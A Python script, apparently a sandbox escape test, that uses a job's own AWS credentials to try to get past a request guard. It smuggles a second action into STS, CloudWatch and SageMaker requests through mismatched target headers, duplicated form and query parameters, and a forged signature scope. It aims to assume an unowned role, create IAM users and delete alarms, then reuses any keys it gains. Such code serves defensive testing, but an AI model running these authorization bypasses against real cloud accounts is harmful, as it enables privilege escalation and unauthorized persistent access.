"""What a job tries with its own credentials, to be more than a job. Prints one JSON object.

Uses what every training image has.
"""

import json
import os
import ssl
import urllib.error
import urllib.request
from typing import Any
from urllib.parse import urlencode

from botocore.auth import SigV4Auth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials

ENDPOINT, REGION = os.environ["AWS_ENDPOINT_URL"], "us-east-1"
OWN = tuple(os.environ[name] for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"))
FORM = "application/x-www-form-urlencoded"
JSON = "application/x-amz-json-1.1"
STS, CLOUDWATCH = "2011-06-15", "2010-08-01"
NOBODYS_ROLE = "arn:aws:iam::999999999999:role/nobody-made-it"


def send(
    service: str, method: str = "POST", target: str = "/", body: str = "", keys: Any = OWN, **headers: str
) -> tuple[int, str]:
    """Status and text of the answer to a request signed with `keys`. `_` in a header's name stands for `-`."""
    given = {name.replace("_", "-"): value for name, value in headers.items()}
    request = AWSRequest(method, ENDPOINT + target, given, body.encode())
    SigV4Auth(Credentials(*keys), service, REGION).add_auth(request)
    sent = urllib.request.Request(
        ENDPOINT + target, body.encode() or None, dict(request.headers.items()), method=method
    )
    authority = os.environ.get("AWS_CA_BUNDLE")
    context = ssl.create_default_context(cafile=authority) if ENDPOINT.startswith("https") else None
    try:
        with urllib.request.urlopen(sent, timeout=60, context=context) as answer:
            return answer.status, answer.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode("utf-8", "replace")


def assume(role: str) -> str:
    fields = {"Action": "AssumeRole", "Version": STS, "RoleArn": role, "RoleSessionName": "attack"}
    return urlencode(fields)


def with_target(service: str, named: str, body: str, **more: Any) -> tuple[int, str]:
    return send(service, body=body, **{"X_Amz_Target": named, "Content_Type": FORM, **more})


def element(text: str, name: str) -> str:
    return text.partition(f"<{name}>")[2].partition(f"</{name}>")[0]


def sessions() -> dict[str, tuple[int, str]]:
    """Every way to AssumeRole that is not the request guard."""
    own = json.loads(os.environ.get("ATTACK_ROLES", "[]"))
    tried: dict[str, tuple[int, str]] = {}
    for role in (NOBODYS_ROLE, *own):
        form = assume(role)
        tried |= {
            f"target and form, {role}": with_target("sts", "X.GetCallerIdentity", form),
            f"target and query, {role}": with_target("sts", "X.GetCallerIdentity", "", target=f"/?{form}"),
            f"two actions in a form, {role}": send(
                "sts", body=f"{form}&Action=GetCallerIdentity", Content_Type=FORM
            ),
            f"two actions, the other way, {role}": send(
                "sts", body=f"Action=GetCallerIdentity&{form}", Content_Type=FORM
            ),
            f"query and form, {role}": send(
                "sts", target="/?Action=GetCallerIdentity&Version=" + STS, body=form, Content_Type=FORM
            ),
            f"form and query, {role}": send(
                "sts", target=f"/?{form}", body=f"Action=GetCallerIdentity&Version={STS}", Content_Type=FORM
            ),
            f"no type, {role}": send("sts", target="/?Action=GetCallerIdentity&Version=" + STS, body=form),
            f"rpc, {role}": send(
                "sts", target="/service/AWSSecurityTokenServiceV20110615/operation/GetCallerIdentity",
                body=form, Content_Type=FORM, smithy_protocol="rpc-v2-cbor",
            ),
            f"as moto spells it, {role}": send(
                "sts", body=form.replace("AssumeRole", "assume_role"), Content_Type=FORM
            ),
            f"asked for, {role}": send("sts", body=form, Content_Type=FORM),
        }  # fmt: skip
    for action in ("GetSessionToken", "GetFederationToken"):
        fields = urlencode({"Action": action, "Version": STS, "Name": "attack"})
        tried[action] = with_target("sts", "X.GetCallerIdentity", fields)
        tried[f"{action}, asked for"] = send("sts", body=fields, Content_Type=FORM)
    return tried


def others() -> dict[str, tuple[int, str]]:
    """One operation allowed, another one run."""
    alarms = urlencode({"Action": "DeleteAlarms", "Version": CLOUDWATCH, "AlarmNames.member.1": "a"})
    metrics = urlencode({"Action": "PutMetricData", "Version": CLOUDWATCH, "Namespace": "n"})
    notebook = urlencode(
        {"Action": "CreateNotebookInstance", "NotebookInstanceName": "attack", "RoleArn": NOBODYS_ROLE}
    )
    user = urlencode({"Action": "CreateUser", "Version": "2010-05-08", "UserName": "attacker"})
    return {
        "PutMetricData and DeleteAlarms": with_target(
            "monitoring", "GraniteServiceVersion20100801.PutMetricData", alarms
        ),
        "DeleteAlarms, then PutMetricData": send("monitoring", body=f"{alarms}&{metrics}", Content_Type=FORM),
        "an action in JSON": send(
            "monitoring", body=json.dumps({"Namespace": "&Action=DeleteAlarms&AlarmNames.member.1=a&"}),
            X_Amz_Target="GraniteServiceVersion20100801.PutMetricData", Content_Type=JSON,
        ),
        "a notebook under ListTrialComponents": send(
            "sagemaker", target=f"/?{notebook}", body="{}",
            X_Amz_Target="SageMaker.ListTrialComponents", Content_Type=JSON,
        ),
        "a user under ListTrialComponents": with_target("sagemaker", "SageMaker.ListTrialComponents", user),
        "two services in one credential": two_services(user),
    }  # fmt: skip


def two_services(body: str) -> tuple[int, str]:
    """A signature allowed for CloudWatch. A server that takes the first text that looks like a scope sees IAM."""
    request = AWSRequest("POST", f"{ENDPOINT}/", {"Content-Type": FORM}, body.encode())
    SigV4Auth(Credentials(*OWN), "monitoring", REGION).add_auth(request)
    headers = dict(request.headers.items())
    first = f"AWS4-HMAC-SHA256 X={OWN[0]}/20260101/{REGION}/iam/aws4_request "
    headers["Authorization"] = first + headers["Authorization"].partition(" ")[2]
    sent = urllib.request.Request(f"{ENDPOINT}/", body.encode(), headers, method="POST")
    context = ssl.create_default_context(cafile=os.environ["AWS_CA_BUNDLE"]) if ENDPOINT.startswith("https") else None
    try:
        with urllib.request.urlopen(sent, timeout=60, context=context) as answer:
            return answer.status, answer.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode("utf-8", "replace")


def gained(text: str) -> dict[str, Any]:
    """What the credentials in an answer open."""
    keys = tuple(element(text, name) for name in ("AccessKeyId", "SecretAccessKey", "SessionToken"))
    name = f"attacker-{keys[0]}"
    list_jobs = {"X_Amz_Target": "SageMaker.ListTrainingJobs", "Content_Type": JSON}
    user = urlencode({"Action": "CreateUser", "Version": "2010-05-08", "UserName": name})
    return {
        "keys": keys,
        "jobs": send("sagemaker", body="{}", keys=keys, **list_jobs),
        "users": send("iam", body=user, keys=keys, Content_Type=FORM),
        "control": send("sagelet", "GET", "/_sagelet/faults/throttling", keys=keys),
    }


found = {**sessions(), **others()}
print(
    "ATTACKED "
    + json.dumps(
        {
            "answers": {name: [status, text[:600]] for name, (status, text) in found.items()},
            "gained": {name: gained(text) for name, (_, text) in found.items() if "<AccessKeyId>" in text},
            "control": send("sagelet", "GET", "/_sagelet/faults/throttling"),
        }
    ),
    flush=True,
)
